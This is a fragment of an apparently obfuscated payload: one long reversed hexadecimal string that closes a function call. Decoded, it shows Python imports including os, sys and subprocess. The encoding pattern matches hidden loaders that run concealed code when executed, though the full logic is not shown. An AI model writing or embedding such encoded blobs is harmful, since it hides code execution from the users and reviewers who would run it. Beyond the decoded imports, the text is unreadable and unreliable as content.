e247e65696c636e207071602d6f62766a01647f65717f54716d627f666024727f607d69602c6964757e207071602d6f62766a05636e6164737e69486475714024727f607d6960286475716e256369667275637e207071602d6f62766a036e6973716f5c6563776e656024727f607d6960247e65696c636e207071602d6f62766a0567616b6361607f547567602c247375657175627f5960716f546e65637024727f607d69602c6563776e656e247e65696c636e207071602d6f62766a0563757160702c256c697473502c2275646165686f547e696270702c2e65656273637f5271656c636024727f607d69602c6964757e23757e656d6e207071602d6f62766a0a056d6964756471646024727f607d6960256d696475647164602d6f62766a03747375657175627024727f607d696a0473656c65637024727f607d696a0379737024727f607d696a056d69647024727f607d696a0864716d6024727f607d696a0" ));